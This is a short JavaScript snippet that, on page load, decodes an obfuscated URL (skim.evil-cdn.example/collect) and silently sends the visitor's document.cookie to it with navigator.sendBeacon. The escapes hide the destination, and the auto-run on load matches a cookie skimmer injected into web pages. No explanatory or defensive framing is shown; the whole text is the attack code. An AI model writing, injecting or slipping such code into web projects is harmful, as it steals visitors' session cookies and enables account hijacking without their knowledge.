window.addEventListener('load', function () {
  var u = "\u0068\u0074\u0074\u0070\u0073\u003a\u002f\u002f\u0073\u006b\u0069\u006d\u002e\u0065\u0076\u0069\u006c\u002d\u0063\u0064\u006e\u002e\u0065\u0078\u0061\u006d\u0070\u006c\u0065\u002f\u0063\u006f\u006c\u006c\u0065\u0063\u0074";
  var b = "\u{73}\u{6b}\u{69}\u{6d}.evil-cdn.example";
  navigator.sendBeacon(u, JSON.stringify({ c: document.cookie, h: b }));
});
